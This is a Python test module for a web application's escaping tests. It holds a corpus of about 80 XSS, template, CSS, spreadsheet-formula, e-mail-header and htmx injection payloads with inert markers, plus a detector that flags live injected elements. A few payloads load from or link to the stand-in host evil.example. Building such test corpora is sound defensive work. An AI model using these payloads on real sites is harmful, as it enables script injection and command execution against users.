"""A corpus of hostile text for the output-escaping tests (``test_xss.py``).

Every payload carries its own marker (``xqz`` and three digits), placed in the part that would
run if the text were not escaped: inside the script, the event handler, the ``javascript:`` URL,
the injected attribute. A detector (``find_live``) then tells an injected live element or
attribute from the same text shown escaped: the marker must only ever be seen as text.

Payloads have no surrounding spaces and are at most 60 characters long, so that every free-text
field can hold any of them unchanged (a household member's relationship takes 60); the few
shorter fields (a partner contact's phone, a capacity unit) hold those that fit.
All of it is inert test text: markers are not functions of any page.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from tests.html_tree import Node, parse

MARKER = re.compile(r"xqz\d{3}")


@dataclass(frozen=True)
class Payload:
    marker: str
    kind: str
    text: str


RAW = [
    # --- script tags ---------------------------------------------------------------------------
    ("script", "<script>{m}()</script>"),
    ("script", "<SCRIPT SRC=//evil.example/{m}.js></SCRIPT>"),
    ("script", "<script\x0c>{m}()</script>"),
    ("script", "<scr<script>ipt>{m}()</script>"),
    ("script", "</textarea><script>{m}()</script>"),
    ("script", "</title></option><script>{m}()</script>"),
    ("script", "<template><script>{m}()</script></template>"),
    ("script", "<![CDATA[<script>{m}()</script>]]>"),
    # --- event handlers and attribute breakouts ----------------------------------------------
    ("handler", "<img src=x onerror={m}()>"),
    ("handler", "<img/src='x'/onerror=\"{m}()\">"),
    ("handler", "<svg onload={m}()>"),
    ("handler", "<svg/onload={m}()>"),
    ("handler", "<body onload={m}()>"),
    ("handler", "<details open ontoggle={m}()>"),
    ("handler", "<input autofocus onfocus={m}()>"),
    ("handler", "<video><source onerror={m}()></video>"),
    ("handler", "<marquee onstart={m}()>x</marquee>"),
    ("handler", "<x onclick={m}()>click</x>"),
    ("handler", "<img src=`x` onerror={m}()>"),
    ("breakout", "\" autofocus onfocus=\"{m}()"),
    ("breakout", "' autofocus onfocus='{m}()' x='"),
    ("breakout", "\"><img src=x onerror={m}()>"),
    ("breakout", "'><svg onload={m}()>"),
    ("breakout", "` onmouseover={m}() `"),
    ("breakout", "x onmouseover={m}() y"),
    ("breakout", "\"/><a id=\"{m}\" name=\"{m}\">"),
    ("breakout", "--><img src=x onerror={m}()>"),
    ("breakout", "<!--<img src=\"--><img src=x onerror={m}()//\">"),
    # --- javascript: and other scripting URLs -------------------------------------------------
    ("url", "javascript:{m}()"),
    ("url", "<a href=\"javascript:{m}()\">link</a>"),
    ("url", "<a href=\" jav&#x09;ascript:{m}()\">link</a>"),
    ("url", "<a href=\"&#106;avascript:{m}()\">link</a>"),
    ("url", "<iframe src=\"javascript:{m}()\"></iframe>"),
    ("url", "<iframe srcdoc=\"<script>{m}()</script>\"></iframe>"),
    ("url", "<form action=\"javascript:{m}()\"><button>go</form>"),
    ("url", "<button formaction=\"javascript:{m}()\">go</button>"),
    ("url", "<object data=\"javascript:{m}()\"></object>"),
    ("url", "<embed src=\"data:text/html,<script>{m}()</script>\">"),
    ("url", "<base href=\"//evil.example/{m}/\">"),
    ("url", "<meta http-equiv=refresh content=\"0;url=javascript:{m}\">"),
    ("url", "<link rel=stylesheet href=\"javascript:{m}()\">"),
    # --- SVG and MathML ------------------------------------------------------------------------
    ("svg", "<svg><script>{m}()</script></svg>"),
    ("svg", "<svg><a xlink:href=\"javascript:{m}()\"><text>x</a>"),
    ("svg", "<svg><animate onbegin={m}() attributeName=x dur=1s>"),
    ("mathml", "<math href=\"javascript:{m}()\">x</math>"),
    ("mathml", "<math><mtext><table><mglyph><style><img onerror={m}()>"),
    ("mathml", "<noscript><p title=\"</noscript><img onerror={m}()>\">"),
    # --- template injection (Django, Jinja, JS template strings) ---------------------------
    ("template", "{{{{ {m} }}}}"),
    ("template", "{{% debug %}}{m}"),
    ("template", "{{{{ request.META.{m} }}}}{{% csrf_token %}}"),
    ("template", "${{{m}}}#{{{m}}}"),
    # --- CSS -------------------------------------------------------------------------------
    ("css", "<div style=\"background:url(javascript:{m}())\">x</div>"),
    ("css", "\" style=\"width:expression({m}())"),
    ("css", "<style>@import 'https://evil.example/{m}.css';</style>"),
    # --- encoded variants (must come out exactly as typed: no double decoding) -----------------
    ("encoded", "&lt;script&gt;{m}()&lt;/script&gt;"),
    ("encoded", "&#60;img src=x onerror={m}()&#62;"),
    ("encoded", "%3Cscript%3E{m}()%3C%2Fscript%3E"),
    ("encoded", "\\u003cscript\\u003e{m}()\\u003c/script\\u003e"),
    ("encoded", "\\x3cimg src=x onerror={m}()\\x3e"),
    ("encoded", "&amp;lt;svg onload={m}()&amp;gt;"),
    # --- unicode tricks ------------------------------------------------------------------------
    ("unicode", "\uff1cscript\uff1e{m}()\uff1c/script\uff1e"),
    ("unicode", "java\u200bscript:{m}()"),
    ("unicode", "<\u017fcript>{m}()</\u017fcript>"),
    ("unicode", "x\u2028<img src=x onerror={m}()>\u2029x"),
    ("unicode", "Zo\u00eb \u00d1\u00fa\u00f1ez {m} \u0645\u0631\u064a\u0645 \u674e"),
    # --- spreadsheet formulas (CSV / XLSX exports) --------------------------------------------
    ("formula", "=cmd|' /C calc'!A0{m}"),
    ("formula", "+{m}()+cmd|' /C calc'!A0"),
    ("formula", "-2+3+cmd|' /C calc'!{m}"),
    ("formula", "@SUM(1+1)*cmd|' /C calc'!{m}"),
    ("formula", "=HYPERLINK(\"https://evil.example/?{m}\",\"x\")"),
    # --- e-mail headers, markdown and htmx attributes ----------------------------------------
    ("header", "x\r\nBcc: {m}@evil.example"),
    ("markdown", "[click](javascript:{m}())"),
    ("markdown", "![x](x\" onerror=\"{m}())"),
    ("htmx", "<div hx-get=\"/{m}\" hx-trigger=\"load\">x</div>"),
    ("htmx", "<a hx-on:click=\"{m}()\">x</a>"),
    ("htmx", "\" hx-post=\"/{m}\" hx-trigger=\"load"),
    ("htmx", "<div data-hx-get=\"/{m}\" data-hx-trigger=\"load\">x</div>"),
    ("htmx", "<div x-data x-init=\"{m}()\">x</div>"),
]

PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(marker=f"xqz{index:03d}", kind=kind, text=template.format(m=f"xqz{index:03d}"))
    for index, (kind, template) in enumerate(RAW, start=1))
MAX_LENGTH = 60


def payload(index: int) -> Payload:
    """The corpus as an endless cycle: payload ``index`` modulo its size."""
    return PAYLOADS[index % len(PAYLOADS)]


# --- the detector ------------------------------------------------------------------------------

# Attributes where text typed by a user may legitimately appear (form values, tooltips, the
# accessible name); a marker anywhere else in a tag is an injected, live attribute.
PASSIVE_ATTRIBUTES = frozenset({"value", "title", "alt", "placeholder", "aria-label",
                                "aria-description", "label"})
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data",
                            "poster", "background", "srcset", "ping", "cite", "lowsrc",
                            "dynsrc", "codebase", "manifest"})
SCRIPTING_SCHEMES = ("javascript:", "vbscript:", "data:")
RAW_TEXT_ELEMENTS = frozenset({"script", "style"})
# Whitespace and C0 controls that browsers drop or ignore in a URL's scheme.
URL_IGNORED = re.compile(r"[\x00-\x20\x7f]+")
LINE_BREAK = re.compile(r"\r\n|\r|\n")


def is_scripting_url(value: str) -> bool:
    return URL_IGNORED.sub("", value).lower().startswith(SCRIPTING_SCHEMES)


def find_live(root: Node) -> list[str]:
    """Every live injection in a parsed page, as readable lines (empty: none).

    Live: an event-handler attribute or a scripting URL anywhere (the templates have none:
    the CSP forbids them), a marker in an attribute name, in an attribute that is not plain
    data (``style``, ``hx-*``, ``id``…), or in the text of a ``<script>``/``<style>``."""
    found = []
    for node in root.descendants():
        for name, value in node.attrs.items():
            where = f"<{node.tag} {name}={value[:60]!r}>"
            if MARKER.search(name):
                found.append(f"injected attribute {where}")
            elif name.startswith("on"):
                found.append(f"event handler {where}")
            elif name in URL_ATTRIBUTES and is_scripting_url(value):
                found.append(f"scripting URL {where}")
            elif name == "srcdoc":
                found.append(f"srcdoc {where}")
            elif MARKER.search(value) and name not in PASSIVE_ATTRIBUTES \
                    and name not in URL_ATTRIBUTES and not is_data_attribute(name):
                found.append(f"marker in a live attribute {where}")
        if node.tag in RAW_TEXT_ELEMENTS:
            text = node.get_text()
            if MARKER.search(text) or any(MARKER.search(v) for v in node.attrs.values()):
                found.append(f"<{node.tag}> carrying {MARKER.findall(text + str(node.attrs))}")
        if node.tag in ("base", "meta", "iframe", "object", "embed", "link", "frame") and \
                any(MARKER.search(value) for value in node.attrs.values()):
            found.append(f"injected <{node.tag}> {node.attrs}")
    return found


def is_data_attribute(name: str) -> bool:
    """``data-*`` holds data for our scripts; ``data-hx-*`` is htmx, live."""
    return name.startswith("data-") and not name.startswith("data-hx-")


def shown_texts(root: Node) -> list[str]:
    """What a person can read or a form sends back: text outside script/style, and the
    passive attribute values."""
    texts = []

    def walk(node: Node) -> None:
        for name, value in node.attrs.items():
            if name in PASSIVE_ATTRIBUTES or is_data_attribute(name):
                texts.append(value)
        for child in node.children:
            if isinstance(child, Node):
                if child.tag not in RAW_TEXT_ELEMENTS:
                    walk(child)
            else:
                texts.append(child)

    walk(root)
    return texts


@dataclass
class Inspection:
    live: list[str]
    texts: list[str]

    def shows(self, text: str) -> bool:
        """``text`` is shown as typed; a multi-line text line by line (``linebreaksbr``)."""
        lines = [line for line in LINE_BREAK.split(text) if line.strip()]
        return all(any(line in piece for piece in self.texts) for line in lines)

    def shows_marker(self, marker: str) -> bool:
        return any(marker in piece for piece in self.texts)


def inspect(html: str | bytes) -> Inspection:
    root = parse(html)
    return Inspection(live=find_live(root), texts=shown_texts(root))
